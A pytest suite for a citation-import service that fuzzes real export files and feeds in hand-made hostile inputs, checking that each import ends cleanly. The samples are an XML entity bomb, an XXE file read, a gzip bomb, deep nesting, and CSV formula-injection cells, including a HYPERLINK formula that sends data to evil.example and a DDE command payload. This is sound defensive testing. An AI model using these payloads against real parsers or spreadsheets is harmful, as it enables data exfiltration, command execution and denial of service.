"""Hostile files: every import of a damaged or malicious file ends cleanly.

Real exports from the shared data folder are mutated by hypothesis (truncated, spliced
with random bytes, given huge lines, re-encoded, gzipped, …) and hand-made malicious files
(XML entity bombs, external entities, deep nesting, gzip bombs, formula cells) are
imported through the import service, end to end, with Celery tasks run eagerly. Each run
must end ``done`` (records read = imported + rejected, exactly the imported records
stored) or ``failed`` (one sentence saying why, no record stored), never with an
unhandled exception.
"""

from __future__ import annotations

import codecs
import functools
import gzip
import io
import itertools
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reviewflow.errors import ReviewflowError
from reviewflow.reviews import services as review_services
from screening.models import Record, Search
from screening.services import identification
from tests.screening.factories import upload
from tests.shared_data import shared_path

pytestmark = pytest.mark.django_db

_slugs = itertools.count(1)
# CI runs a sample that takes seconds; HOSTILE_EXAMPLES=2000 hunts longer.
EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", "60"))


def check_outcome(search: Search) -> None:
    """The invariants every finished import keeps, whatever the file was."""
    search.refresh_from_db()
    stored = Record.objects.filter(search=search).count()
    assert search.status in ("done", "failed"), search.status
    if search.status == "failed":
        reason = search.failure
        assert reason.startswith(f"{search.filename}: "), reason
        # One sentence: a single line that says more than the file's name.
        assert "\n" not in reason and len(reason) > len(search.filename) + 10, reason
        assert stored == 0 and search.records_imported == 0
    else:
        assert search.records_read == search.records_imported + search.records_rejected
        assert stored == search.records_imported
        for error in search.errors:
            assert isinstance(error["line"], int) and error["message"].strip()


@pytest.fixture
def import_bytes(owner, django_capture_on_commit_callbacks):
    """Import ``data`` as a new search of a review of its own; the search, or the error
    that refused the upload before anything was stored."""

    def run(data: bytes, name: str, **extra: Any) -> Search | ReviewflowError:
        review = review_services.create_review(
            title="Hostile files", slug=f"hostile-{next(_slugs)}", owner=owner
        )
        try:
            with django_capture_on_commit_callbacks(execute=True):
                search = identification.create_search(
                    review=review,
                    actor=owner,
                    file=upload(data, name),
                    filename=name,
                    source="Test",
                    **extra,
                )
        except ReviewflowError as exc:
            assert not Search.objects.filter(review=review).exists()
            return exc
        check_outcome(search)
        return search

    return run


# ------------------------------------------------------------------ mutated real files


UNSUPPORTED = {"ais_enl.txt", "loader_enl_data.enl"}


def real_files() -> list[Path]:
    files = [
        *sorted(p for p in shared_path("exports").rglob("*") if p.is_file()),
        *sorted(p for p in shared_path("seed").rglob("*") if p.is_file()),
    ]
    assert len(files) > 20
    return files


WORKBOOK = Path("generated.xlsx")


@functools.cache
def workbook_bytes() -> bytes:
    """A real workbook (written by openpyxl) of 40 citations, for the mutations; made once,
    since openpyxl stamps the time into it and hypothesis needs the same bytes each run."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Title", "Authors", "Year", "DOI"])
    for i in range(40):
        sheet.append([f"Stem cell trial {i}", "Smith, J; Doe, A", 2000 + i, f"10.1000/x.{i}"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@st.composite
def mutated(draw: st.DrawFn, data: bytes) -> bytes:
    """``data`` damaged in one to three ways."""
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(
            st.sampled_from(
                [
                    "truncate",
                    "insert",
                    "splice",
                    "huge_line",
                    "recode",
                    "wrong_bom",
                    "line_ends",
                    "nul",
                    "repeat",
                    "gzip",
                ]
            )
        )
        at = draw(st.integers(0, len(data)))
        if kind == "truncate":
            data = data[:at]
        elif kind == "insert":
            data = data[:at] + draw(st.binary(min_size=1, max_size=64)) + data[at:]
        elif kind == "splice":
            junk = draw(st.binary(min_size=1, max_size=512))
            data = data[:at] + junk + data[at + len(junk) :]
        elif kind == "huge_line":
            data = data[:at] + draw(st.sampled_from([b"A", b"\xe9", b"{", b"<"])) * draw(
                st.integers(70_000, 3_000_000)
            ) + data[at:]  # fmt: skip
        elif kind == "recode":
            encoding = draw(st.sampled_from(["utf-16", "utf-16-be", "utf-32", "latin-1", "cp1252"]))
            data = data.decode("utf-8", "replace").encode(encoding, "replace")
        elif kind == "wrong_bom":
            data = draw(st.sampled_from([codecs.BOM_UTF16_LE, codecs.BOM_UTF8 * 2])) + data
        elif kind == "line_ends":
            data = data.replace(b"\n", draw(st.sampled_from([b"\r", b"\r\r\n", b"\x85", b""])))
        elif kind == "nul":
            data = data[:at] + b"\x00" * draw(st.integers(1, 8)) + data[at:]
        elif kind == "repeat":
            piece = data[at : at + draw(st.integers(1, 400))]
            data = data[:at] + piece * draw(st.integers(2, 200)) + data[at:]
        else:
            data = gzip.compress(data, compresslevel=1)
    return data


@settings(
    max_examples=EXAMPLES,
    deadline=None,
    database=None,  # nothing written into the working tree
    print_blob=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_mutated_real_exports_are_imported_or_refused_with_a_reason(import_bytes, data):
    files = real_files()
    path = data.draw(st.sampled_from([*files, WORKBOOK]), label="file")
    original = workbook_bytes() if path == WORKBOOK else path.read_bytes()
    damaged = data.draw(mutated(original), label="damaged")
    fmt = data.draw(st.sampled_from(["auto", "auto", "auto", "ris", "csv", "bibtex"]), label="fmt")
    import_bytes(damaged, path.name, fmt=fmt)


@settings(
    max_examples=max(EXAMPLES // 2, 1),
    deadline=None,
    database=None,
    print_blob=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(blob=st.binary(min_size=1, max_size=4096), name=st.sampled_from(["a.ris", "a.csv", "a.xml"]))
def test_random_bytes_are_imported_or_refused_with_a_reason(import_bytes, blob, name):
    import_bytes(blob, name)


def test_every_real_export_imports_cleanly(import_bytes):
    # The unmutated files are the baseline the mutations start from.
    failed = {}
    for path in real_files():
        search = import_bytes(path.read_bytes(), path.name)
        assert isinstance(search, Search)
        if search.status == "failed":
            failed[path.name] = search.failure
        else:
            assert search.records_imported > 0, path.name
    # EndNote's tagged format (.enl) is not one reviewflow reads (EndNote XML is).
    assert sorted(failed) == sorted(UNSUPPORTED)
    assert all("could not recognise the format" in reason for reason in failed.values())


# ------------------------------------------------------------------ hand-made hostile files

ENDNOTE_RECORD = (
    "<record><ref-type name='Journal Article'>17</ref-type><contributors><authors>"
    "<author>Smith, J</author></authors></contributors><titles><title>{title}</title>"
    "</titles><dates><year>2020</year></dates></record>"
)


def endnote(title: str, prolog: str = "") -> bytes:
    body = ENDNOTE_RECORD.format(title=title)
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f"{head}{prolog}<xml><records>{body}</records></xml>".encode()


def _laugh(i: int) -> str:
    inner = f"&lol{i - 1};" if i > 1 else "&lol;"
    return f'<!ENTITY lol{i} "{inner * 10}">'


# Nine levels of ten: 10^9 "lol"s if a parser expanded them.
BILLION_LAUGHS = (
    '<!DOCTYPE xml [<!ENTITY lol "lol">' + "".join(_laugh(i) for i in range(1, 10)) + "]>"
)


def test_xml_entity_bomb_is_refused_without_expanding(import_bytes):
    search = import_bytes(endnote("&lol9;", BILLION_LAUGHS), "bomb.xml")
    assert search.status == "failed"
    assert "entit" in search.failure.lower() or "DTD" in search.failure


def test_xml_external_entity_is_never_read(import_bytes, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    prolog = f'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    search = import_bytes(endnote("&xxe;", prolog), "xxe.xml")
    assert search.status == "failed"
    assert not Record.objects.filter(title__contains="TOP-SECRET").exists()


def test_deeply_nested_xml_is_imported_or_refused(import_bytes):
    depth = 100_000
    title = "<style>" * depth + "Deep title" + "</style>" * depth
    search = import_bytes(endnote(title), "deep.xml")
    assert search.status in ("done", "failed")


def test_deeply_nested_bibtex_braces_are_imported_or_refused(import_bytes):
    depth = 50_000
    entry = "@article{deep, title = {" + "{" * depth + "Deep" + "}" * depth + "}, year = {2020}}\n"
    search = import_bytes(entry.encode(), "deep.bib")
    assert search.status in ("done", "failed")


def test_unterminated_bibtex_brace_swallows_no_more_than_the_file(import_bytes):
    text = "@article{a, title = {Never closed, year = {2020}\n" + "@article{b, title={B}}\n" * 50
    import_bytes(text.encode(), "open.bib")


def test_huge_line_in_ris_is_imported_or_refused(import_bytes):
    text = "TY  - JOUR\nTI  - " + "x" * 6_000_000 + "\nER  - \n"
    search = import_bytes(text.encode(), "huge.ris")
    assert search.status in ("done", "failed")


@pytest.mark.parametrize(
    ("encoding", "name"),
    [("utf-16", "u16.ris"), ("utf-16-le", "u16le.ris"), ("latin-1", "l1.ris"), ("cp1252", "w.ris")],
)
def test_wrong_or_unusual_encodings_keep_the_text(import_bytes, encoding, name):
    text = (
        "TY  - JOUR\nTI  - Effet des cellules souches: étude randomisée\n"
        "AU  - Müller, Jürgen\nER  - \n"
    )
    search = import_bytes(text.encode(encoding), name)
    assert search.status == "done", search.failure
    record = Record.objects.get(search=search)
    assert record.title == "Effet des cellules souches: étude randomisée"
    assert record.authors == ["Müller, Jürgen"]


def test_nul_bytes_in_text_are_imported_or_refused(import_bytes):
    text = b"TY  - JOUR\nTI  - A title\x00 with a NUL\nAU  - Smith, J\x00\nER  - \n"
    search = import_bytes(text, "nul.ris")
    if search.status == "done":
        assert "\x00" not in Record.objects.get(search=search).title


def test_nul_bytes_after_the_start_of_a_file_are_read_as_spaces(import_bytes):
    # Found by the mutation test on PostgreSQL, whose text columns refuse NUL: the whole
    # batch failed. The first 64 KB are sniffed (NUL there means binary); later ones slipped.
    records = "".join(
        f"TY  - JOUR\nTI  - Padding record {i}\nAU  - Smith, J\nER  - \n" for i in range(2500)
    )
    damaged = records.encode() + b"TY  - JOUR\nTI  - Broken\x00title\nAU  - Doe, \x00A\nER  - \n"
    search = import_bytes(damaged, "late-nul.ris")
    assert search.status == "done", search.failure
    assert search.records_imported == 2501
    record = Record.objects.get(search=search, position=2501)
    assert (record.title, record.authors) == ("Broken title", ["Doe, A"])
    assert "the file has NUL bytes (binary data); they were read as spaces" in search.warnings


def test_a_file_cut_inside_a_date_imports_without_a_year(import_bytes):
    # Found by the mutation test: a truncated PubMed date ("DP  - 2") once raised IndexError.
    text = "PMID- 1\nTI  - Paper title\nAU  - Smith, Tom\nJT  - Journal Name\nDP  - 2"
    search = import_bytes(text.encode(), "cut.nbib")
    assert search.status == "done", search.failure
    assert Record.objects.get(search=search).year is None


def test_utf32_with_its_mark_is_read_as_utf32(import_bytes):
    # Found by the mutation test: UTF-32's mark starts with UTF-16's, so the file was read
    # as UTF-16 full of NUL characters, and saving the failure crashed on PostgreSQL.
    text = "title,authors,year\nÉtude des cellules souches,Müller J,2020\n"
    search = import_bytes(codecs.BOM_UTF32_LE + text.encode("utf-32-le"), "u32.csv")
    assert search.status == "done", search.failure
    assert search.encoding == "utf-32-le"
    assert Record.objects.get(search=search).title == "Étude des cellules souches"


def test_nul_characters_in_utf16_are_read_as_spaces(import_bytes):
    text = "TY  - JOUR\nTI  - A\x00title\nAU  - Smith, J\nER  - \n"
    search = import_bytes(text.encode("utf-16"), "nul16.ris")
    assert search.status == "done", search.failure
    assert Record.objects.get(search=search).title == "A title"
    assert "the file has NUL characters (binary data); they were read as spaces" in (
        search.warnings
    )


def test_gzip_bomb_is_refused(import_bytes, settings):
    settings.MAX_UPLOAD_MB = 1  # a compressed file may unpack to 20 × this
    bomb = gzip.compress(b"TY  - JOUR\n" + b" " * (25 * 1024 * 1024), compresslevel=9)
    assert len(bomb) < 1024 * 1024
    search = import_bytes(bomb, "bomb.ris.gz")
    assert search.status == "failed"
    assert search.failure == "bomb.ris.gz: the compressed file unpacks to more than 20 MB"


def xlsx(sheet: str) -> bytes:
    """A minimal workbook whose first sheet is ``sheet`` (XML)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
            'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


SHEET = (
    '<?xml version="1.0"?>{prolog}'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>{title}</t></is></c></row>'
    "</sheetData></worksheet>"
)


def test_corrupt_gzip_stream_is_refused_with_a_reason(import_bytes):
    # Found by the mutation test: a gzip header followed by data that is not deflate.
    data = b"\x1f\x8b\x08\x00\x00e4\x06k\x04\xff\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    search = import_bytes(data, "broken.ris.gz")
    assert search.status == "failed"
    assert search.failure == (
        "broken.ris.gz: the file could not be read "
        "(Error -3 while decompressing data: invalid block type)."
    )


def test_xlsx_with_an_entity_bomb_is_refused(import_bytes):
    prolog = BILLION_LAUGHS.replace("xml [", "worksheet [")
    search = import_bytes(xlsx(SHEET.format(prolog=prolog, title="&lol9;")), "bomb.xlsx")
    assert search.status == "failed"
    assert search.failure == "bomb.xlsx: the file is not a valid XLSX workbook"


def test_xlsx_with_broken_sheet_xml_is_refused(import_bytes):
    sheet = SHEET.format(prolog="", title="A title")[:-40]
    search = import_bytes(xlsx(sheet), "broken.xlsx")
    assert search.status == "failed"
    assert search.failure == "broken.xlsx: the file is not a valid XLSX workbook"


def test_xlsx_broken_far_into_its_sheet_is_refused(import_bytes):
    rows = "".join(
        f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>Title {i}</t></is></c></row>'
        for i in range(2, 5000)
    )
    sheet = SHEET.format(prolog="", title="First").replace("</sheetData>", rows + "</sheetData>")
    search = import_bytes(xlsx(sheet[:-200]), "long.xlsx")
    assert search.status == "failed"
    assert search.failure.startswith("long.xlsx: the ")


def test_a_valid_minimal_xlsx_imports(import_bytes):
    search = import_bytes(xlsx(SHEET.format(prolog="", title="A title")), "ok.xlsx")
    assert search.status == "done", search.failure
    assert Record.objects.get(search=search).title == "A title"


def test_csv_formula_cells_import_as_text_and_export_defused(import_bytes, tmp_path):
    formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ]
    lines = ["title,authors,year"] + [
        f'"{f.replace(chr(34), chr(34) * 2)}",Smith J,2020' for f in formulas
    ]
    search = import_bytes(("\n".join(lines) + "\n").encode(), "formulas.csv")
    assert search.status == "done", search.failure
    titles = list(
        Record.objects.filter(search=search).order_by("position").values_list("title", flat=True)
    )
    assert titles == [f.strip() for f in formulas]  # kept as the source gave them
    out = tmp_path / "out.csv"
    call_command("exportcitations", search.review.slug, "--format", "csv", "-o", str(out))
    exported = out.read_text(encoding="utf-8-sig")
    for formula in formulas:
        assert f"\n{formula.strip()}," not in exported and f'\n"{formula.strip()}' not in exported
